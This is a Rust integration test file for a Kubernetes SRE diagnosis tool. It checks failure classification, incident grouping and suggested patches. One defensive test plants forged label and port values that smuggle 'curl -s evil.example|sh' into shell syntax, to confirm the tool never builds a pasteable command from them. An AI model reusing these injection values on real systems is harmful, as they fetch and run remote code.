//! `sre-operator diagnose` as a user runs it, on the bundled dump and on bad input.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use sre_operator::crd::{DiagnosticReport, FailureClass, Phase};

fn repo(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(path)
}

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_sre-operator"))
        .args(args)
        .output()
        .expect("the binary runs")
}

fn reports(args: &[&str]) -> Vec<DiagnosticReport> {
    let out = run(args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let list: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("--output json prints JSON");
    assert_eq!(list["kind"], "List");
    serde_json::from_value(list["items"].clone()).expect("items are DiagnosticReports")
}

#[test]
fn finds_every_planted_failure_and_no_healthy_pod() {
    let dump = repo("tests/fixtures/dump");
    let found = reports(&[
        "diagnose",
        "--dump",
        dump.to_str().unwrap(),
        "--output",
        "json",
    ]);
    let mut summary: Vec<(String, String, String, String)> = found
        .iter()
        .map(|r| {
            (
                r.spec.pod.namespace.clone(),
                r.spec.workload.name.clone(),
                r.spec.failure.class.to_string(),
                r.spec.failure.reason.clone(),
            )
        })
        .collect();
    summary.sort();
    let expected = [
        ("batch", "report-worker", "OOMKilled", "OOMKilled"),
        (
            "billing",
            "invoice-api",
            "CreateContainerConfigError",
            "ConfigMapKeyNotFound",
        ),
        (
            "billing",
            "ledger",
            "CreateContainerConfigError",
            "SecretNotFound",
        ),
        (
            "data",
            "analytics",
            "Pending",
            "UnboundPersistentVolumeClaim",
        ),
        ("data", "gpu-trainer", "Pending", "NodeSelectorMismatch"),
        ("default", "critical-app", "CrashLoopBackOff", "Error"),
        ("production", "payment", "Pending", "InsufficientMemory"),
        ("shop", "frontend", "ImagePullBackOff", "ImageNotFound"),
        (
            "shop",
            "internal-api",
            "ImagePullBackOff",
            "RegistryAuthFailed",
        ),
        ("web", "api", "ProbeFailure", "ReadinessProbeFailed"),
        ("web", "search", "ProbeFailure", "LivenessProbeFailed"),
    ]
    .map(|(a, b, c, d)| (a.to_string(), b.to_string(), c.to_string(), d.to_string()));
    assert_eq!(summary, expected);

    for r in &found {
        assert_eq!(
            r.spec.workload.kind, "Deployment",
            "ReplicaSets resolve to their Deployment"
        );
        assert!(!r.spec.failure.evidence.is_empty());
        assert_eq!(
            r.metadata.namespace.as_deref(),
            Some(r.spec.pod.namespace.as_str())
        );
        assert!(!r.spec.pod.uid.is_empty());
    }
    let crash = found
        .iter()
        .find(|r| r.spec.workload.name == "critical-app")
        .unwrap();
    assert_eq!(
        crash.metadata.name.as_deref(),
        Some("deployment-critical-app-crashloopbackoff")
    );
    let evidence = crash.spec.failure.evidence.join("\n");
    assert!(evidence.contains("restarted 6 times"), "{evidence}");
    assert!(
        evidence.contains("1 other Pod(s) of Deployment critical-app fail the same way"),
        "two Pods, one report: {evidence}"
    );
    let payment = found
        .iter()
        .find(|r| r.spec.workload.name == "payment")
        .unwrap();
    assert!(
        payment
            .spec
            .failure
            .evidence
            .iter()
            .any(|e| e == "the Pod requests cpu 500m and memory 3Gi in all")
    );
    let config = found
        .iter()
        .find(|r| r.spec.workload.name == "invoice-api")
        .unwrap();
    assert!(
        config
            .spec
            .failure
            .evidence
            .iter()
            .any(|e| e == "missing: key DATABASE_URL in ConfigMap billing/billing-config")
    );
}

#[test]
fn the_seed_policy_selects_only_the_seed_crash_loop() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("seed.yaml");
    std::fs::write(
        &policy,
        "apiVersion: sre-operator.dev/v1alpha1\nkind: DebugPolicy\nmetadata: {name: protect-critical-services}\n\
         spec:\n  rules:\n    - namespaces: [\"default\"]\n      selector:\n        matchLabels:\n          app: critical-app\n",
    )
    .unwrap();
    let dump = repo("tests/fixtures/dump");
    let found = reports(&[
        "diagnose",
        "--dump",
        dump.to_str().unwrap(),
        "--policy",
        policy.to_str().unwrap(),
        "-o",
        "json",
    ]);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].spec.policy, "protect-critical-services");
    assert_eq!(found[0].spec.failure.class.to_string(), "CrashLoopBackOff");
}

#[test]
fn text_and_yaml_output() {
    let dump = repo("tests/fixtures/dump");
    let out = run(&["diagnose", "--dump", dump.to_str().unwrap()]);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("== production/payment-6d5f7c9b8-7xk2p  Pending (InsufficientMemory)"),
        "{text}"
    );
    assert!(text.contains("workload: Deployment payment"), "{text}");
    assert!(text.contains("Root cause: Insufficient memory: the Pod requests 3Gi memory; the most free allocatable on any node it may use is 1.2Gi on node-b"), "{text}");
    assert!(text.contains("Safety: Allowed by patch-safety"), "{text}");
    assert!(
        text.trim_end()
            .ends_with("11 report(s): 4 AwaitingApproval, 7 NoFix."),
        "{text}"
    );
    let out = run(&[
        "diagnose",
        "--dump",
        dump.to_str().unwrap(),
        "--detect-only",
    ]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.trim_end().ends_with("11 report(s): 11 detected."),
        "{text}"
    );
    let out = run(&["diagnose", "--dump", dump.to_str().unwrap(), "-o", "yaml"]);
    let list: serde_json::Value = serde_yaml::from_slice(&out.stdout).unwrap();
    assert_eq!(list["items"].as_array().unwrap().len(), 11);
    assert_eq!(list["items"][0]["apiVersion"], "sre-operator.dev/v1alpha1");
    assert_eq!(list["items"][0]["kind"], "DiagnosticReport");
}

fn one_line_error(args: &[&str]) -> String {
    let out = run(args);
    assert!(!out.status.success(), "expected a failure for {args:?}");
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(stderr.trim_end().lines().count(), 1, "one line: {stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    stderr
}

#[test]
fn bad_input_exits_non_zero_with_one_line_naming_the_input() {
    let err = one_line_error(&["diagnose", "--dump", "/nonexistent/dump"]);
    assert!(
        err.starts_with("error: /nonexistent/dump: no such directory"),
        "{err}"
    );

    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("shop")).unwrap();
    std::fs::write(
        dir.path().join("shop/pods.json"),
        "{\"kind\": \"PodList\", \"items\": [",
    )
    .unwrap();
    let err = one_line_error(&["diagnose", "--dump", dir.path().to_str().unwrap()]);
    assert!(err.contains("shop/pods.json: invalid JSON"), "{err}");

    let dump = repo("tests/fixtures/dump");
    let err = one_line_error(&[
        "diagnose",
        "--dump",
        dump.to_str().unwrap(),
        "--policy",
        "/nonexistent/policy.yaml",
    ]);
    assert!(
        err.starts_with("error: /nonexistent/policy.yaml: cannot read"),
        "{err}"
    );

    let out = run(&["diagnose"]);
    assert_eq!(out.status.code(), Some(2), "a usage error");
    assert!(String::from_utf8_lossy(&out.stderr).contains("--dump <DIR>"));
}

/// A scratch copy of a scenario's dump.
fn scenario_dump(scenario: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let from = repo(&format!("tests/scenarios/{scenario}/dump"));
    let status = Command::new("cp")
        .arg("-r")
        .arg(format!("{}/.", from.display()))
        .arg(dir.path())
        .status()
        .unwrap();
    assert!(status.success());
    dir
}

/// Copies a scenario's dump and clones its failing Pod `copies` times as bare Pods (each its
/// own workload) with their events: workloads that fail for one shared cause.
fn dump_with_copies(
    scenario: &str,
    namespace: &str,
    pod: &str,
    copies: usize,
) -> tempfile::TempDir {
    let dir = scenario_dump(scenario);
    let read = |file: &str| -> serde_json::Value {
        serde_json::from_slice(&std::fs::read(dir.path().join(namespace).join(file)).unwrap())
            .unwrap()
    };
    let (mut pods, mut events) = (read("pods.json"), read("events.json"));
    let original = pods["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["metadata"]["name"] == pod)
        .unwrap()
        .clone();
    let its_events: Vec<serde_json::Value> = events["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["involvedObject"]["name"] == pod)
        .cloned()
        .collect();
    for i in 0..copies {
        let name = format!("worker-{i}");
        let uid = format!("00000000-0000-4000-8000-00000000000{i}");
        let mut copy = original.clone();
        copy["metadata"]["name"] = name.clone().into();
        copy["metadata"]["uid"] = uid.clone().into();
        copy["metadata"]
            .as_object_mut()
            .unwrap()
            .remove("ownerReferences");
        pods["items"].as_array_mut().unwrap().push(copy);
        for (k, e) in its_events.iter().enumerate() {
            let mut e = e.clone();
            e["metadata"]["name"] = format!("{name}.{k}").into();
            e["involvedObject"]["name"] = name.clone().into();
            e["involvedObject"]["uid"] = uid.clone().into();
            events["items"].as_array_mut().unwrap().push(e);
        }
    }
    // The Pod's log, when the dump has one, under each copy's name.
    let log = dir.path().join(namespace).join(pod).join("logs.txt");
    if let Ok(text) = std::fs::read_to_string(&log) {
        for i in 0..copies {
            let name = format!("worker-{i}");
            let at = dir.path().join(namespace).join(&name);
            std::fs::create_dir_all(&at).unwrap();
            std::fs::write(at.join("logs.txt"), text.replace(pod, &name)).unwrap();
        }
    }
    for (file, value) in [("pods.json", pods), ("events.json", events)] {
        std::fs::write(dir.path().join(namespace).join(file), value.to_string()).unwrap();
    }
    dir
}

/// The reports `diagnose -o json` writes for a dump.
fn diagnosed(dump: &tempfile::TempDir) -> Vec<DiagnosticReport> {
    let path = dump.path().to_str().unwrap();
    reports(&["diagnose", "--dump", path, "--output", "json"])
}

/// The cause of the one incident of `reports` ([`the_incident`]).
fn incident_cause(reports: &[DiagnosticReport], members: usize) -> String {
    let lead = the_incident(reports, members);
    lead.status.clone().unwrap().incident_detail.unwrap().cause
}

/// The one incident of `reports`, checked to have `members` members and one lead (investigated
/// once): its lead.
fn the_incident(reports: &[DiagnosticReport], members: usize) -> &DiagnosticReport {
    let status = |r: &DiagnosticReport| r.status.clone().unwrap();
    let inside: Vec<&DiagnosticReport> = reports
        .iter()
        .filter(|r| status(r).incident.is_some())
        .collect();
    assert_eq!(inside.len(), members, "members");
    let leads: Vec<&DiagnosticReport> = inside
        .into_iter()
        .filter(|r| status(r).incident_detail.is_some())
        .collect();
    assert_eq!(leads.len(), 1, "investigated once");
    leads[0]
}

#[test]
fn workloads_failing_for_one_cause_are_one_incident_investigated_once() {
    let dump = dump_with_copies(
        "imagepull-registry-unreachable",
        "payments",
        "ledger-api-x2f6cpmnlh-cg4h4",
        3,
    );
    let path = dump.path().to_str().unwrap();
    let reports = reports(&["diagnose", "--dump", path, "--output", "json"]);
    let members: Vec<&DiagnosticReport> = reports
        .iter()
        .filter(|r| {
            r.status
                .as_ref()
                .and_then(|s| s.incident.as_ref())
                .is_some()
        })
        .collect();
    assert_eq!(members.len(), 4, "the original and its 3 copies");
    let incident = members[0]
        .status
        .as_ref()
        .unwrap()
        .incident
        .clone()
        .unwrap();
    assert!(incident.starts_with("inc-"), "{incident}");
    assert!(
        members
            .iter()
            .all(|r| r.status.as_ref().unwrap().incident.as_ref() == Some(&incident))
    );
    // One investigation: only the lead has a reasoning chain and the incident's detail.
    let leads: Vec<_> = members
        .iter()
        .filter(|r| r.status.as_ref().unwrap().incident_detail.is_some())
        .collect();
    assert_eq!(leads.len(), 1);
    let detail = leads[0]
        .status
        .as_ref()
        .unwrap()
        .incident_detail
        .as_ref()
        .unwrap();
    assert_eq!(detail.members.len(), 4);
    assert!(
        detail.cause.contains("registry.gitlab.com is unreachable"),
        "{}",
        detail.cause
    );
    let investigated = members
        .iter()
        .filter(|r| {
            !r.status.as_ref().unwrap().reasoning_chain.is_empty()
                || r.status.as_ref().unwrap().brain.is_some()
        })
        .count();
    assert_eq!(investigated, 1, "members take the lead's findings");
    for m in &members {
        let status = m.status.as_ref().unwrap();
        assert!(
            status.suggested_patch.is_none(),
            "an outage is never patched"
        );
        let findings = status.findings.as_ref().unwrap();
        assert!(!findings.root_cause.is_empty());
    }
    // Other failures in the dump stay reports of their own.
    let text = run(&["diagnose", "--dump", path]);
    let text = String::from_utf8(text.stdout).unwrap();
    let at = text
        .find(&format!("#### Incident {incident}"))
        .expect(&text);
    assert!(
        text[at..].contains("(4 workloads, investigated once)"),
        "{text}"
    );
    for i in 0..3 {
        assert!(
            text.contains(&format!("   + payments/worker-{i}  Pod worker-{i}")),
            "{text}"
        );
    }
    assert!(
        text.find("== ").unwrap() > at,
        "incidents are printed first:\n{text}"
    );
}

#[test]
fn workloads_calling_a_service_that_does_not_exist_are_one_incident() {
    // checkout-api's log: "lookup payments-api on 10.96.0.10:53: no such host"; namespace
    // checkout has payment-api, not payments-api.
    let dump = dump_with_copies(
        "crashloop-dns-service-typo",
        "checkout",
        "checkout-api-t5jls4x29-lxwxv",
        2,
    );
    let path = dump.path().to_str().unwrap();
    let reports = reports(&["diagnose", "--dump", path, "--output", "json"]);
    let status = |r: &DiagnosticReport| r.status.clone().unwrap();
    let members: Vec<&DiagnosticReport> = reports
        .iter()
        .filter(|r| status(r).incident.is_some())
        .collect();
    assert_eq!(members.len(), 3, "the original and its 2 copies");
    let leads: Vec<_> = members
        .iter()
        .filter(|r| status(r).incident_detail.is_some())
        .collect();
    assert_eq!(leads.len(), 1, "investigated once");
    let detail = status(leads[0]).incident_detail.unwrap();
    assert_eq!(detail.members.len(), 3);
    assert!(
        detail
            .cause
            .contains("Service checkout/payments-api, which the workloads call, does not exist"),
        "{}",
        detail.cause
    );
    // The lead's investigation finds the Service meant; the others point at it and are not
    // patched from another workload's review.
    let lead = status(leads[0]);
    assert!(
        lead.findings.unwrap().root_cause.contains("payment-api"),
        "the lead names the Service that exists"
    );
    for m in members
        .iter()
        .filter(|m| status(m).incident_detail.is_none())
    {
        let s = status(m);
        assert!(s.suggested_patch.is_none());
        assert!(s.findings.unwrap().root_cause.contains("payment-api"));
    }
}

/// A Node under memory pressure: the Pods its kubelet evicted (two Deployments) and a Pod the
/// scheduler keeps off it for the pressure's taint are one incident, investigated once, with
/// no patch: no change to one workload relieves the Node.
#[test]
fn evictions_and_pods_kept_off_a_node_under_pressure_are_one_incident() {
    let dump = scenario_dump("evicted-node-memory-pressure");
    let file = dump.path().join("logging/pods.json");
    let mut pods: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    // A bare Pod the scheduler cannot place: the pressured node's taint and no room elsewhere.
    let mut pending = pods["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["status"]["phase"] == "Running")
        .unwrap()
        .clone();
    pending["metadata"]["name"] = "indexer".into();
    pending["metadata"]["uid"] = "00000000-0000-4000-8000-0000000000aa".into();
    pending["metadata"]["labels"] = serde_json::json!({"app": "indexer"});
    pending["metadata"]
        .as_object_mut()
        .unwrap()
        .remove("ownerReferences");
    pending["spec"].as_object_mut().unwrap().remove("nodeName");
    pending["status"] = serde_json::json!({
        "phase": "Pending", "qosClass": "Burstable",
        "conditions": [{"type": "PodScheduled", "status": "False", "reason": "Unschedulable",
            "lastProbeTime": null, "lastTransitionTime": "2026-11-21T22:32:02Z",
            "message": "0/4 nodes are available: 1 Insufficient memory, 1 node(s) had untolerated taint {node.kubernetes.io/memory-pressure: }, 2 node(s) had untolerated taint {dedicated: ingest}. preemption: 0/4 nodes are available: 1 No preemption victims found for incoming pod, 3 Preemption is not helpful for scheduling."}]
    });
    pods["items"].as_array_mut().unwrap().push(pending);
    std::fs::write(&file, pods.to_string()).unwrap();

    let path = dump.path().to_str().unwrap();
    let reports = reports(&["diagnose", "--dump", path, "--output", "json"]);
    let status = |r: &DiagnosticReport| r.status.clone().unwrap();
    assert_eq!(
        reports.len(),
        3,
        "two evicted workloads and the Pending Pod"
    );
    let incident = status(&reports[0]).incident.expect("in an incident");
    assert!(
        reports
            .iter()
            .all(|r| status(r).incident.as_ref() == Some(&incident)),
        "one incident"
    );
    let leads: Vec<_> = reports
        .iter()
        .filter(|r| status(r).incident_detail.is_some())
        .collect();
    assert_eq!(leads.len(), 1, "investigated once");
    let detail = status(leads[0]).incident_detail.unwrap();
    assert_eq!(detail.members.len(), 3);
    assert!(detail.cause.contains("memory pressure"), "{}", detail.cause);
    let evicted: Vec<_> = reports
        .iter()
        .filter(|r| r.spec.failure.class == FailureClass::Evicted)
        .collect();
    assert_eq!(evicted.len(), 2);
    for r in &reports {
        let s = status(r);
        assert!(
            s.suggested_patch.is_none(),
            "a node's pressure is never patched"
        );
        assert_eq!(s.phase, Some(Phase::NoFix));
    }
    for r in evicted {
        assert_eq!(r.spec.failure.reason, "MemoryPressure");
        if status(r).incident_detail.is_some() {
            let root = status(r).findings.unwrap().root_cause;
            assert!(
                root.contains("general-1") && root.contains("3.3Gi"),
                "{root}"
            );
        }
    }
}

/// Copies a scenario's dump and clones workload `name` (its Deployment, ReplicaSets, Pods, their
/// events and logs) `copies` times as `name-cN`, each with uids of its own: workloads that
/// fail for one shared cause, each with its own rollout history.
fn dump_with_workload_copies(
    scenario: &str,
    namespace: &str,
    name: &str,
    copies: usize,
) -> tempfile::TempDir {
    let dir = scenario_dump(scenario);
    let ns = dir.path().join(namespace);
    let ours = |o: &serde_json::Value| {
        let n = o["metadata"]["name"].as_str().unwrap_or_default();
        let about = o["involvedObject"]["name"].as_str().unwrap_or_default();
        n == name || n.starts_with(&format!("{name}-")) || about.starts_with(name)
    };
    let mut uids = Vec::new();
    for file in ["deployments.json", "replicasets.json", "pods.json"] {
        let list: serde_json::Value =
            serde_json::from_slice(&std::fs::read(ns.join(file)).unwrap()).unwrap();
        for o in list["items"].as_array().unwrap().iter().filter(|o| ours(o)) {
            uids.push(o["metadata"]["uid"].as_str().unwrap().to_string());
        }
    }
    for file in [
        "deployments.json",
        "replicasets.json",
        "pods.json",
        "events.json",
    ] {
        let path = ns.join(file);
        let mut list: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        let originals: Vec<serde_json::Value> = list["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|o| ours(o))
            .cloned()
            .collect();
        for i in 0..copies {
            for o in &originals {
                let mut text = o.to_string().replace(name, &format!("{name}-c{i}"));
                for uid in &uids {
                    text = text.replace(uid.as_str(), &format!("{:08x}{}", i + 1, &uid[8..]));
                }
                list["items"]
                    .as_array_mut()
                    .unwrap()
                    .push(serde_json::from_str(&text).unwrap());
            }
        }
        std::fs::write(&path, list.to_string()).unwrap();
    }
    for entry in std::fs::read_dir(&ns).unwrap() {
        let entry = entry.unwrap();
        let pod = entry.file_name().to_string_lossy().into_owned();
        if !(entry.path().is_dir() && pod.starts_with(&format!("{name}-"))) {
            continue;
        }
        let log = std::fs::read_to_string(entry.path().join("logs.txt")).unwrap_or_default();
        for i in 0..copies {
            let copy = pod.replace(name, &format!("{name}-c{i}"));
            std::fs::create_dir_all(ns.join(&copy)).unwrap();
            std::fs::write(
                ns.join(&copy).join("logs.txt"),
                log.replace(name, &format!("{name}-c{i}")),
            )
            .unwrap();
        }
    }
    dir
}

#[test]
fn a_tag_never_pushed_across_workloads_is_one_incident_with_a_rollback_for_each() {
    // web-ui was rolled out to a tag the registry does not have; two copies of it too.
    let dump =
        dump_with_workload_copies("imagepull-bad-tag-after-rollout", "storefront", "web-ui", 2);
    let path = dump.path().to_str().unwrap();
    let reports = reports(&["diagnose", "--dump", path, "--output", "json"]);
    let status = |r: &DiagnosticReport| r.status.clone().unwrap();
    let members: Vec<&DiagnosticReport> = reports
        .iter()
        .filter(|r| status(r).incident.is_some())
        .collect();
    assert_eq!(members.len(), 3, "web-ui and its 2 copies");
    let leads: Vec<_> = members
        .iter()
        .filter(|r| status(r).incident_detail.is_some())
        .collect();
    assert_eq!(leads.len(), 1, "one incident");
    // Each workload awaits approval of its own rollback: its own image back to its own 5.1.3.
    for m in &members {
        let s = status(m);
        assert_eq!(
            s.phase.map(|p| p.as_str()),
            Some("AwaitingApproval"),
            "{s:?}"
        );
        let patch = s.suggested_patch.unwrap();
        let workload = &m.spec.workload.name;
        assert_eq!(&patch.target.name, workload);
        let ops = serde_json::to_string(&patch.patch).unwrap();
        assert!(
            ops.contains(&format!("acme/storefront/{workload}:5.1.3")),
            "{workload}: {ops}"
        );
        assert!(
            !ops.contains("web-ui:5.1.3") || workload == "web-ui",
            "another workload's image: {ops}"
        );
    }
    // Only the lead's investigation may use a model; the members found theirs by the playbook.
    let message = status(
        members
            .iter()
            .find(|m| status(m).incident_detail.is_none())
            .unwrap(),
    )
    .message
    .unwrap();
    assert!(
        message.contains("kubectl sre approve --incident"),
        "{message}"
    );
}

/// Edits `namespace/file` of a dump in place.
fn edit_dump(dump: &Path, namespace: &str, file: &str, edit: impl FnOnce(&mut serde_json::Value)) {
    let path = dump.join(namespace).join(file);
    let mut value: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    edit(&mut value);
    std::fs::write(&path, value.to_string()).unwrap();
}

/// The Pod of `items` whose name starts with `prefix`.
fn pod_named<'a>(items: &'a mut serde_json::Value, prefix: &str) -> &'a mut serde_json::Value {
    items["items"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|p| p["metadata"]["name"].as_str().unwrap().starts_with(prefix))
        .unwrap()
}

/// A Service's fix is advice with a `kubectl patch` command a person may paste into a shell.
/// The API server validates the names in it, but a dump's are whatever the file says: a forged
/// label value or port name is still named as the cause (quoted, for a person to see), and no
/// command is built from it.
#[test]
fn names_a_dump_forged_never_reach_a_command_to_paste() {
    let forged_label = "session-redis-$(curl -s evil.example|sh)";
    let forged_port = "redis';curl -s evil.example|sh;'";
    let cases = [
        (
            "crashloop-service-selector-typo",
            "/metadata/labels/app",
            forged_label,
            "selector",
        ),
        (
            "crashloop-service-target-port-wrong",
            "/spec/containers/0/ports/0/name",
            forged_port,
            "6380",
        ),
    ];
    for (scenario, field, forged, cause) in cases {
        // First as the scenario is: the command is there.
        let dump = scenario_dump(scenario);
        let path = dump.path().to_str().unwrap();
        let message = |reports: &[DiagnosticReport]| {
            let status = reports[0].status.clone().unwrap();
            (
                status.findings.unwrap().root_cause,
                status.message.unwrap_or_default(),
            )
        };
        let (_, advice) = message(&reports(&["diagnose", "--dump", path, "-o", "json"]));
        assert!(
            advice.contains("kubectl patch service sessions-redis"),
            "{scenario}: {advice}"
        );
        edit_dump(dump.path(), "web", "pods.json", |pods| {
            *pod_named(pods, "sessions-redis-")
                .pointer_mut(field)
                .unwrap() = forged.into();
        });
        let reports = reports(&["diagnose", "--dump", path, "-o", "json"]);
        assert_eq!(reports.len(), 1, "{scenario}");
        let (root_cause, advice) = message(&reports);
        assert!(root_cause.contains(cause), "{scenario}: {root_cause}");
        assert!(!advice.contains("kubectl patch"), "{scenario}: {advice}");
    }
}

/// A livenessProbe that kills a container hours after it started is not a slow start: no
/// startupProbe is proposed for an application that started fine and stopped answering later.
#[test]
fn a_liveness_kill_long_after_start_is_not_a_slow_start() {
    let dump = scenario_dump("probe-liveness-kills-slow-start");
    let path = dump.path().to_str().unwrap();
    let first = &reports(&["diagnose", "--dump", path, "-o", "json"])[0];
    assert!(first.status.clone().unwrap().suggested_patch.is_some());
    edit_dump(dump.path(), "crm", "pods.json", |pods| {
        let run = pod_named(pods, "contacts-")
            .pointer_mut("/status/containerStatuses/0/lastState/terminated")
            .unwrap();
        run["startedAt"] = "2026-11-20T08:19:32Z".into();
    });
    let status = reports(&["diagnose", "--dump", path, "-o", "json"])[0]
        .status
        .clone()
        .unwrap();
    assert!(
        status.suggested_patch.is_none(),
        "{:?}",
        status.suggested_patch
    );
    let root_cause = status.findings.unwrap().root_cause;
    assert!(!root_cause.contains("before it"), "{root_cause}");
}

/// Clients whose connections to one Service time out (a NetworkPolicy dropping them) are one
/// incident about that Service, investigated once.
#[test]
fn workloads_whose_connections_to_one_service_time_out_are_one_incident() {
    let dump = dump_with_copies(
        "crashloop-dependency-connect-timeout",
        "web",
        "session-api-sdt9drhm7d-kgcwn",
        2,
    );
    let reports = diagnosed(&dump);
    let cause = incident_cause(&reports, 3);
    assert!(
        cause.contains("Service web/sessions-redis") && cause.contains("time out"),
        "{cause}"
    );
}

/// Health endpoints that answer 503 because they cannot reach one renamed Service are one
/// incident, investigated once (the lead's fix is the env; the others wait for it).
#[test]
fn health_endpoints_failing_on_one_missing_service_are_one_incident() {
    let dump = dump_with_copies(
        "probe-readiness-503-dependency-renamed",
        "search",
        "suggest-lqkh47bbw-tl549",
        1,
    );
    let reports = diagnosed(&dump);
    let cause = incident_cause(&reports, 2);
    assert!(
        cause.contains("Service search/search-es") && cause.contains("does not exist"),
        "{cause}"
    );
}

/// Workloads whose lookups the cluster DNS leaves unanswered are one incident on the DNS,
/// whatever names they look up, and none is told to call another Service: the one a letter away
/// from cart-redis is not the fix.
#[test]
fn workloads_whose_lookups_go_unanswered_are_one_incident_on_the_dns() {
    let dump = scenario_dump("crashloop-dns-unanswered");
    let reports = diagnosed(&dump);
    let cause = incident_cause(&reports, 2);
    assert!(cause.contains("cluster DNS"), "{cause}");
    for report in &reports {
        let status = report.status.clone().unwrap();
        assert!(
            status.suggested_patch.is_none(),
            "{:?}",
            status.suggested_patch
        );
        let findings = status.findings.unwrap();
        let text = format!("{} {}", findings.summary, findings.root_cause);
        assert!(!text.contains("carts-redis"), "{text}");
    }
}

/// Workloads whose logins one Service rejects (its password rotated under them) are one
/// incident on that Service, whichever client library says so.
#[test]
fn workloads_whose_logins_one_service_rejects_are_one_incident() {
    let dump = scenario_dump("crashloop-db-password-rotated");
    let reports = diagnosed(&dump);
    let cause = incident_cause(&reports, 2);
    assert!(
        cause.contains("Service shop/orders-db") && cause.contains("credentials"),
        "{cause}"
    );
}

/// Controllers whose Pods one admission webhook cannot review (it is down and fails closed)
/// are one incident on the webhook, not two refusals of two templates.
#[test]
fn controllers_refused_by_a_webhook_that_is_down_are_one_incident() {
    let dump = scenario_dump("failedcreate-webhook-unavailable");
    let reports = diagnosed(&dump);
    let cause = incident_cause(&reports, 2);
    assert!(cause.contains("validate.kyverno.svc-fail"), "{cause}");
}
